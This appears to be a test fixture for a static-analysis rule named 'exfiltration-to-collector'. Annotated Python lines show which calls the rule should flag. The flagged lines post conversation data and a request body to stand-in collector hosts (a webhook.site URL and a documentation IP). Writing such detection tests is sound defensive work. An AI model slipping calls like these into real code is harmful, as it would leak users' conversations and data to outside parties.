import requests
# ruleid: exfiltration-to-collector
requests.post("https://webhook.site/abc", json={"c": conversation})
# ruleid: exfiltration-to-collector
requests.post("http://203.0.113.5/b", data=body)
# ok: exfiltration-to-collector
requests.post("https://webhook.site/abc", json={"a": "started"})
# ok: exfiltration-to-collector
requests.post("https://api.acme.invalid/v1", json={"c": conversation})
